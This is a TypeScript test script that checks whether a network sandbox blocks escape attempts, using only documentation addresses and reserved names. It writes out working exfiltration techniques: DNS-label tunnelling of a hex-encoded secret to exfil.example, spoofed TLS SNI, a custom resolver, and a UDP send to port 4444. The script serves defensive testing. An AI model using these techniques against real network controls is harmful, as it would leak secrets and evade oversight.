/**
 * Ways out that a program inside an enforced run tries, one after the other; prints a JSON line for each. Only documentation
 * addresses (RFC 5737, RFC 3849) and reserved names (RFC 2606): nobody is there, so that nothing would be lost even if it got
 * out. `node attempts.ts ALLOWED_NAME TARGET_IPV4`
 */
import dgram from "node:dgram";
import dns from "node:dns/promises";
import net from "node:net";
import tls from "node:tls";

const [allowed, target] = process.argv.slice(2) as [string, string];
const secret = Buffer.from("token-of-the-job").toString("hex");
const patience = 4_000;

/** What the program saw: an error's code, or that it got through. */
type Outcome = string;

const attempts: Record<string, () => Promise<Outcome>> = {
  "raw-ip": () => connect(() => net.connect({ host: target, port: 443 })),
  "unknown-host": () => outcome(dns.lookup("collector.example")),
  "spoofed-sni": () =>
    connect(() => tls.connect({ host: target, port: 443, servername: allowed, rejectUnauthorized: false })),
  "dns-label": () => outcome(dns.resolve4(`${secret}.exfil.example`)),
  "own-resolver": () => {
    const resolver = new dns.Resolver({ timeout: patience, tries: 1 });
    resolver.setServers([target]);
    return outcome(resolver.resolveTxt(`${secret}.exfil.example`));
  },
  ipv6: () => connect(() => net.connect({ host: "2001:db8:bad::1", port: 443 })),
  udp: () => datagram(),
};

for (const [attempt, run] of Object.entries(attempts)) {
  const start = performance.now();
  const seen = await run();
  console.log(JSON.stringify({ attempt, seen, ms: Math.round(performance.now() - start) }));
}

function connect(open: () => net.Socket): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = open();
    socket.setTimeout(patience, () => end("no answer"));
    socket.once("error", (error: NodeJS.ErrnoException) => end(error.code ?? error.message));
    socket.once(socket instanceof tls.TLSSocket ? "secureConnect" : "connect", () => end("CONNECTED"));
    function end(seen: Outcome): void {
      socket.destroy();
      resolve(seen);
    }
  });
}

async function outcome(answer: Promise<unknown>): Promise<Outcome> {
  try {
    await answer;
    return "ANSWERED";
  } catch (error) {
    return (error as NodeJS.ErrnoException).code ?? String(error);
  }
}

/** A connected UDP socket hears of the refusal by ICMP. */
function datagram(): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = dgram.createSocket("udp4");
    const timer = setTimeout(() => end("no answer"), patience);
    socket.once("error", (error: NodeJS.ErrnoException) => end(error.code ?? error.message));
    socket.once("message", () => end("ANSWERED"));
    socket.connect(4444, target, () => socket.send(secret));
    function end(seen: Outcome): void {
      clearTimeout(timer);
      socket.close();
      resolve(seen);
    }
  });
}
